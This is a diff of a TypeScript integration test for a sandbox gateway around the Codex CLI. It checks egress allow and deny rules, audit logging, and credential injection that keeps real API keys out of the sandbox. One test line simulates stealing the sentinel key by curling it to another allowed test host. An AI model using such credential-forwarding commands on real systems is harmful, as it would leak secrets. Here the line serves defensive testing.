@@ -105,7 +105,10 @@ async function run(t: Tap) {
     const started = Date.now();
     const tarballs = await cachedCodexTarballs(CODEX_VERSION, codexPlatform(), (s) => t.comment(s));
     // The base image has what Codex exec needs; nothing is downloaded while building.
-    const b = await cli(['build', '--base', BASE_IMAGE, '--codex-tarballs', tarballs, '--build-arg', 'PACKAGES=ca-certificates git curl python3', '--quiet'], 10 * 60_000);
+    const b = await cli(
+      ['build', '--base', BASE_IMAGE, '--codex-tarballs', tarballs, '--build-arg', 'PACKAGES=ca-certificates git curl python3', '--quiet'],
+      10 * 60_000,
+    );
     t.equal(b.code, 0, `build exit 0 ${b.stderr.slice(-800)}`);
     const v = await docker(['run', '--rm', '--network', 'none', images.codex, 'codex', '--version']);
     t.match(v.stdout, new RegExp(`codex-cli ${CODEX_VERSION.replace(/\./g, '\\.')}`), 'the sandbox image runs the pinned Codex');
@@ -113,7 +116,9 @@ async function run(t: Tap) {
     if (b.code !== 0) return;
 
     // api.openai.com and chatgpt.com answer with the fake API's address, beside the world
-    const w = await startDockerWorld(tmp.path, id, [ALLOWED, DENIED, GH_HOST], (address) => Object.fromEntries(API_NAMES.map((n) => [n, { a: [address(API_ADDRESS)], ttl: 5 }])));
+    const w = await startDockerWorld(tmp.path, id, [ALLOWED, DENIED, GH_HOST], (address) =>
+      Object.fromEntries(API_NAMES.map((n) => [n, { a: [address(API_ADDRESS)], ttl: 5 }])),
+    );
     world = w;
     const tls = await makeTestCA(join(tmp.path, 'ca'), API_NAMES);
     // the sandbox sees the CA certificate only (a read-only mount), never its key
@@ -131,11 +136,39 @@ async function run(t: Tap) {
     // the gateway verifies the real hosts: the fake API's CA and the world's self-signed certificate
     const upstreamCa = join(tmp.path, 'upstream-ca.pem');
     writeFileSync(upstreamCa, readFileSync(tls.ca, 'utf8') + readFileSync(join(tmp.path, 'world', 'cert.pem'), 'utf8'));
-    const secret = await cli(['secret', 'set', 'github', '--host', GH_HOST, '--format', 'token {value}', '--command', `printf ${GH_TOKEN}`, '--env', 'GH_TOKEN']);
+    const secret = await cli([
+      'secret',
+      'set',
+      'github',
+      '--host',
+      GH_HOST,
+      '--format',
+      'token {value}',
+      '--command',
+      `printf ${GH_TOKEN}`,
+      '--env',
+      'GH_TOKEN',
+    ]);
     t.equal(secret.code, 0, `secret set ${secret.stderr}`);
     const up = await cli([
-      'up', '--detach', '--no-defaults', '--allow', ALLOWED, ...API_NAMES.flatMap((n) => ['--allow', n]), '--allow', GH_HOST,
-      '--upstream', w.ip, '--egress-network', w.network, '--auth-file', auth, '--read-only', join(tmp.path, 'trust'), '--upstream-ca', upstreamCa,
+      'up',
+      '--detach',
+      '--no-defaults',
+      '--allow',
+      ALLOWED,
+      ...API_NAMES.flatMap((n) => ['--allow', n]),
+      '--allow',
+      GH_HOST,
+      '--upstream',
+      w.ip,
+      '--egress-network',
+      w.network,
+      '--auth-file',
+      auth,
+      '--read-only',
+      join(tmp.path, 'trust'),
+      '--upstream-ca',
+      upstreamCa,
     ]);
     t.match(up.stderr, /credentials: the OpenAI key \(from auth\.json\) is held by the gateway/, 'auto: an API key is injected');
     t.equal(up.code, 0, `up exit 0 (verify green) ${up.stdout}${up.stderr.slice(-800)}`);
@@ -149,7 +182,11 @@ async function run(t: Tap) {
    * nothing else: no key and no CA of the test's (the sandbox trusts the gateway's CA, which `up` set up).
    */
   const codexExec = async (prompt: string) => {
-    const r = await execa('docker', sandboxExecArgs(p, ['timeout', '-k', '5', '150', ...codexCommand({ mode: 'off', sub: ['exec'], userArgs: [prompt] })]), { reject: false, timeout: 180_000, stdin: 'ignore' });
+    const r = await execa(
+      'docker',
+      sandboxExecArgs(p, ['timeout', '-k', '5', '150', ...codexCommand({ mode: 'off', sub: ['exec'], userArgs: [prompt] })]),
+      { reject: false, timeout: 180_000, stdin: 'ignore' },
+    );
     return { code: r.exitCode ?? 1, stdout: String(r.stdout), stderr: String(r.stderr) };
   };
   const audit = async () => {
@@ -157,7 +194,10 @@ async function run(t: Tap) {
     return r.stdout
       .split('\n')
       .filter(Boolean)
-      .map((l) => JSON.parse(l) as { event: string; of?: string; count?: number; host?: string; decision?: string; reason?: string; mode?: string });
+      .map(
+        (l) =>
+          JSON.parse(l) as { event: string; of?: string; count?: number; host?: string; decision?: string; reason?: string; mode?: string },
+      );
   };
   /** CONNECT decisions for a host: one per `connect` line, and a `repeat` line's count (repeated denials are summarised). */
   const connects = (lines: Awaited<ReturnType<typeof audit>>, host: string, decision: string) =>
@@ -166,79 +206,111 @@ async function run(t: Tap) {
       .reduce((n, l) => n + (l.event === 'repeat' ? (l.count ?? 0) : 1), 0);
 
   for (const transport of ['websocket', 'sse'] as const) {
-    await t.test(`codex exec over ${transport === 'websocket' ? 'the WebSocket transport' : 'POST + SSE (WebSocket refused)'}`, async (t) => {
-      const tag = transport;
-      await fake.start({ command: command(tag), finalMessage: FINAL, refuseWebSocket: transport === 'sse' });
-      const before = await audit();
-      const started = Date.now();
-      const r = await codexExec(`Write codex-${tag}.txt and fetch the two hosts.`);
-      t.comment(`codex exec took ${Date.now() - started} ms`);
-      const reqs = fake.requests();
-      const diag = `\n--- codex stdout ---\n${r.stdout.slice(-1500)}\n--- codex stderr ---\n${r.stderr.slice(-1500)}\n--- API requests ---\n${reqs.map((q) => JSON.stringify(q).slice(0, 300)).join('\n')}`;
-      t.equal(r.code, 0, `Codex exits 0${r.code === 0 ? '' : diag}`);
-      t.match(r.stdout, FINAL, 'Codex printed the final assistant message');
+    await t.test(
+      `codex exec over ${transport === 'websocket' ? 'the WebSocket transport' : 'POST + SSE (WebSocket refused)'}`,
+      async (t) => {
+        const tag = transport;
+        await fake.start({ command: command(tag), finalMessage: FINAL, refuseWebSocket: transport === 'sse' });
+        const before = await audit();
+        const started = Date.now();
+        const r = await codexExec(`Write codex-${tag}.txt and fetch the two hosts.`);
+        t.comment(`codex exec took ${Date.now() - started} ms`);
+        const reqs = fake.requests();
+        const diag = `\n--- codex stdout ---\n${r.stdout.slice(-1500)}\n--- codex stderr ---\n${r.stderr.slice(-1500)}\n--- API requests ---\n${reqs.map((q) => JSON.stringify(q).slice(0, 300)).join('\n')}`;
+        t.equal(r.code, 0, `Codex exits 0${r.code === 0 ? '' : diag}`);
+        t.match(r.stdout, FINAL, 'Codex printed the final assistant message');
 
-      // the transport the API served
-      const turns = reqs.filter((q) => q.kind === 'call' || q.kind === 'final');
-      t.same(turns.map((q) => q.kind), ['call', 'final'], `one shell call, then the final message${diag}`);
-      t.ok(turns.every((q) => q.transport === (transport === 'websocket' ? 'websocket' : 'http')), `both turns over ${transport}`);
-      if (transport === 'websocket') {
-        t.ok(reqs.some((q) => q.kind === 'warmup' && q.generate === false), 'a warm-up response.create with generate: false');
-        t.equal(turns[1]?.previous_response_id, 'resp_2', 'the second turn links the first by previous_response_id');
-      } else {
-        t.ok(reqs.some((q) => q.transport === 'websocket' && q.status === 426), 'the WebSocket upgrade was refused');
-        t.notOk(reqs.some((q) => q.transport === 'websocket' && q.status === 101), 'and never accepted');
-      }
-      const responses = reqs.filter((q) => q.path === '/v1/responses');
-      t.ok(responses.length > 0 && responses.every((q) => q.auth), `every /v1/responses request carried the API key${diag}`);
-      t.ok(responses.every((q) => q.auth_sha256 === sha(`Bearer ${KEY}`)), `the API received the real key (the gateway replaced the sentinel)${diag}`);
-      const output = turns[1]?.outputs?.join('\n') ?? '';
-      t.match(output, /fetched/, `the command ran to the end and its output went back to the model${/fetched/.test(output) ? '' : diag}`);
+        // the transport the API served
+        const turns = reqs.filter((q) => q.kind === 'call' || q.kind === 'final');
+        t.same(
+          turns.map((q) => q.kind),
+          ['call', 'final'],
+          `one shell call, then the final message${diag}`,
+        );
+        t.ok(
+          turns.every((q) => q.transport === (transport === 'websocket' ? 'websocket' : 'http')),
+          `both turns over ${transport}`,
+        );
+        if (transport === 'websocket') {
+          t.ok(
+            reqs.some((q) => q.kind === 'warmup' && q.generate === false),
+            'a warm-up response.create with generate: false',
+          );
+          t.equal(turns[1]?.previous_response_id, 'resp_2', 'the second turn links the first by previous_response_id');
+        } else {
+          t.ok(
+            reqs.some((q) => q.transport === 'websocket' && q.status === 426),
+            'the WebSocket upgrade was refused',
+          );
+          t.notOk(
+            reqs.some((q) => q.transport === 'websocket' && q.status === 101),
+            'and never accepted',
+          );
+        }
+        const responses = reqs.filter((q) => q.path === '/v1/responses');
+        t.ok(responses.length > 0 && responses.every((q) => q.auth), `every /v1/responses request carried the API key${diag}`);
+        t.ok(
+          responses.every((q) => q.auth_sha256 === sha(`Bearer ${KEY}`)),
+          `the API received the real key (the gateway replaced the sentinel)${diag}`,
+        );
+        const output = turns[1]?.outputs?.join('\n') ?? '';
+        t.match(output, /fetched/, `the command ran to the end and its output went back to the model${/fetched/.test(output) ? '' : diag}`);
 
-      // what the command did, seen from the host
-      const file = join(project, `codex-${tag}.txt`);
-      t.ok(existsSync(file), 'the file Codex wrote exists in the workdir');
-      if (existsSync(file)) {
-        t.equal(readFileSync(file, 'utf8'), `written by codex (${tag})\n`);
-        const st = statSync(file);
-        t.same({ uid: st.uid, gid: st.gid }, OWNER, "owned by the workdir's owner");
-      }
-      const read = (f: string) => (existsSync(join(project, f)) ? readFileSync(join(project, f), 'utf8') : '');
-      t.equal(read(`allowed-${tag}.code`), '200', 'the allowed fetch succeeded');
-      t.match(read(`allowed-${tag}.body`), new RegExp(`hello from .* host=${ALLOWED.replace(/\./g, '\\.')} path=/from-codex-${tag}`), 'served by the allowed host');
-      t.equal(read(`denied-${tag}.code`), '403', 'the denied fetch got 403 from the gateway');
-      t.match(read(`denied-${tag}.headers`), /^x-codex-egress-deny: \S+/im, 'with the deny header');
-      // around the proxy (no proxy settings), the allowed name still works: transparent mode (on by default)
-      // answers it with a pool address of the gateway, which takes the same checks (test/transparent.test.ts)
-      t.equal(read(`direct-${tag}.code`), '200', 'around the proxy, the allowed name goes through the gateway (transparent mode)');
+        // what the command did, seen from the host
+        const file = join(project, `codex-${tag}.txt`);
+        t.ok(existsSync(file), 'the file Codex wrote exists in the workdir');
+        if (existsSync(file)) {
+          t.equal(readFileSync(file, 'utf8'), `written by codex (${tag})\n`);
+          const st = statSync(file);
+          t.same({ uid: st.uid, gid: st.gid }, OWNER, "owned by the workdir's owner");
+        }
+        const read = (f: string) => (existsSync(join(project, f)) ? readFileSync(join(project, f), 'utf8') : '');
+        t.equal(read(`allowed-${tag}.code`), '200', 'the allowed fetch succeeded');
+        t.match(
+          read(`allowed-${tag}.body`),
+          new RegExp(`hello from .* host=${ALLOWED.replace(/\./g, '\\.')} path=/from-codex-${tag}`),
+          'served by the allowed host',
+        );
+        t.equal(read(`denied-${tag}.code`), '403', 'the denied fetch got 403 from the gateway');
+        t.match(read(`denied-${tag}.headers`), /^x-codex-egress-deny: \S+/im, 'with the deny header');
+        // around the proxy (no proxy settings), the allowed name still works: transparent mode (on by default)
+        // answers it with a pool address of the gateway, which takes the same checks (test/transparent.test.ts)
+        t.equal(read(`direct-${tag}.code`), '200', 'around the proxy, the allowed name goes through the gateway (transparent mode)');
 
-      // the decisions in the audit log
-      const expected: Array<[string, string, string]> = [
-        [ALLOWED, 'allow', `audit: the allowed CONNECT to ${ALLOWED}`],
-        [DENIED, 'deny', `audit: the denied CONNECT to ${DENIED}`],
-        ['api.openai.com', 'allow', "audit: Codex's own API traffic went through the gateway"],
-      ];
-      const grew = (after: Awaited<ReturnType<typeof audit>>, [host, decision]: [string, string, string]) => connects(after, host, decision) > connects(before, host, decision);
-      let after = await audit();
-      // the gateway writes its log asynchronously, and a repeated denial shows in the `repeat` line at the end
-      // of its 10 s summary window: wait (bounded) for the lines
-      for (let i = 0; i < 75 && !expected.every((e) => grew(after, e)); i++) {
-        await new Promise((r) => setTimeout(r, 200));
-        after = await audit();
-      }
-      for (const e of expected) t.ok(grew(after, e), e[2]);
-      const transparentTo = (lines: Awaited<ReturnType<typeof audit>>) => lines.filter((l) => l.event === 'connect' && l.host === ALLOWED && l.decision === 'allow' && l.mode === 'transparent').length;
-      for (let i = 0; i < 75 && transparentTo(after) <= transparentTo(before); i++) {
-        await new Promise((r) => setTimeout(r, 200));
-        after = await audit();
-      }
-      t.ok(transparentTo(after) > transparentTo(before), `audit: the fetch around the proxy is a transparent connection to ${ALLOWED}`);
-    });
+        // the decisions in the audit log
+        const expected: Array<[string, string, string]> = [
+          [ALLOWED, 'allow', `audit: the allowed CONNECT to ${ALLOWED}`],
+          [DENIED, 'deny', `audit: the denied CONNECT to ${DENIED}`],
+          ['api.openai.com', 'allow', "audit: Codex's own API traffic went through the gateway"],
+        ];
+        const grew = (after: Awaited<ReturnType<typeof audit>>, [host, decision]: [string, string, string]) =>
+          connects(after, host, decision) > connects(before, host, decision);
+        let after = await audit();
+        // the gateway writes its log asynchronously, and a repeated denial shows in the `repeat` line at the end
+        // of its 10 s summary window: wait (bounded) for the lines
+        for (let i = 0; i < 75 && !expected.every((e) => grew(after, e)); i++) {
+          await new Promise((r) => setTimeout(r, 200));
+          after = await audit();
+        }
+        for (const e of expected) t.ok(grew(after, e), e[2]);
+        const transparentTo = (lines: Awaited<ReturnType<typeof audit>>) =>
+          lines.filter((l) => l.event === 'connect' && l.host === ALLOWED && l.decision === 'allow' && l.mode === 'transparent').length;
+        for (let i = 0; i < 75 && transparentTo(after) <= transparentTo(before); i++) {
+          await new Promise((r) => setTimeout(r, 200));
+          after = await audit();
+        }
+        t.ok(transparentTo(after) > transparentTo(before), `audit: the fetch around the proxy is a transparent connection to ${ALLOWED}`);
+      },
+    );
   }
 
   await t.test('the sandbox holds only the sentinel; the gateway injects; the CA is trusted by curl, node and python', async (t) => {
     const inSandbox = async (script: string, user?: string, vars: Record<string, string> = {}) => {
-      const r = await execa('docker', ['exec', ...(user ? ['-u', user] : []), ...Object.keys(vars).flatMap((k) => ['-e', k]), p.sandbox, 'sh', '-c', script], { reject: false, timeout: 120_000, env: vars });
+      const r = await execa(
+        'docker',
+        ['exec', ...(user ? ['-u', user] : []), ...Object.keys(vars).flatMap((k) => ['-e', k]), p.sandbox, 'sh', '-c', script],
+        { reject: false, timeout: 120_000, env: vars },
+      );
       return { code: r.exitCode ?? 1, out: String(r.stdout), errOut: String(r.stderr) };
     };
     const caKey = readFileSync(join(credentialPaths(statePaths(p, env)).caDir, 'ca-key.pem'), 'utf8').split('\n')[1]!;
@@ -255,7 +327,10 @@ async function run(t: Tap) {
     const inspect = await docker(['inspect', p.sandbox, p.gateway]);
     t.same(holds(inspect.stdout), [], 'docker inspect of the sandbox and the gateway: no real value');
     // every file the sandbox can see (as root inside it), mounts included
-    const files = await inSandbox(`grep -rlsF ${secrets.map((s) => `-e '${s}'`).join(' ')} / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev; echo done`, '0:0');
+    const files = await inSandbox(
+      `grep -rlsF ${secrets.map((s) => `-e '${s}'`).join(' ')} / --exclude-dir=proc --exclude-dir=sys --exclude-dir=dev; echo done`,
+      '0:0',
+    );
     t.equal(files.out.trim(), 'done', `no file in the sandbox holds a real value or the CA key${files.out}`);
     const hostGrep = await execa('grep', ['-rlsF', '-e', KEY, '-e', GH_TOKEN, project], { reject: false });
     t.equal(String(hostGrep.stdout), '', 'nor any file in the workdir (host side)');
@@ -277,17 +352,36 @@ async function run(t: Tap) {
     t.match(trust.out, /python=200/, `python trusts it ${trust.errOut.slice(-300)}`);
 
     // the sentinel stolen and sent to another allowed host carries nothing; the gh-style token is injected for its host
-    const stolen = await inSandbox(`curl -sS -k -H "Authorization: Bearer $CODEX_API_KEY" https://${ALLOWED}/echo-auth; curl -sS -H "Authorization: token $GH_TOKEN" https://${GH_HOST}/echo-auth`);
+    const stolen = await inSandbox(
+      `curl -sS -k -H "Authorization: Bearer $CODEX_API_KEY" https://${ALLOWED}/echo-auth; curl -sS -H "Authorization: token $GH_TOKEN" https://${GH_HOST}/echo-auth`,
+    );
     const seen = [...stolen.out.matchAll(/\{"who":[^\n]*?\]\}/g)].map((m) => (JSON.parse(m[0]) as { auth: string[] }).auth);
-    t.same(seen, [[sha(`Bearer ${SENTINEL}`)], [sha(`token ${GH_TOKEN}`)]], `the allowed host got the sentinel, the GitHub-like host its token ${stolen.out}${stolen.errOut}`);
+    t.same(
+      seen,
+      [[sha(`Bearer ${SENTINEL}`)], [sha(`token ${GH_TOKEN}`)]],
+      `the allowed host got the sentinel, the GitHub-like host its token ${stolen.out}${stolen.errOut}`,
+    );
 
     // and in the logs: injected, by name; never a value
     const logs = await cli(['logs', '--json']);
-    const lines = logs.stdout.split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>);
-    t.ok(lines.some((l) => l.host === 'api.openai.com' && l.credential === 'injected' && l.credential_name === 'openai'), 'audit: openai injected');
-    t.ok(lines.some((l) => l.host === GH_HOST && l.credential === 'injected' && l.credential_name === 'github'), 'audit: github injected');
+    const lines = logs.stdout
+      .split('\n')
+      .filter(Boolean)
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    t.ok(
+      lines.some((l) => l.host === 'api.openai.com' && l.credential === 'injected' && l.credential_name === 'openai'),
+      'audit: openai injected',
+    );
+    t.ok(
+      lines.some((l) => l.host === GH_HOST && l.credential === 'injected' && l.credential_name === 'github'),
+      'audit: github injected',
+    );
     const gwLogs = await docker(['logs', p.gateway]);
-    t.same(holds(logs.stdout + readFileSync(statePaths(p, env).auditLog, 'utf8') + gwLogs.stdout + gwLogs.stderr), [], 'no real value in the audit log or the gateway output');
+    t.same(
+      holds(logs.stdout + readFileSync(statePaths(p, env).auditLog, 'utf8') + gwLogs.stdout + gwLogs.stderr),
+      [],
+      'no real value in the audit log or the gateway output',
+    );
   });
 
   await t.test('down removes exactly what up made', async (t) => {
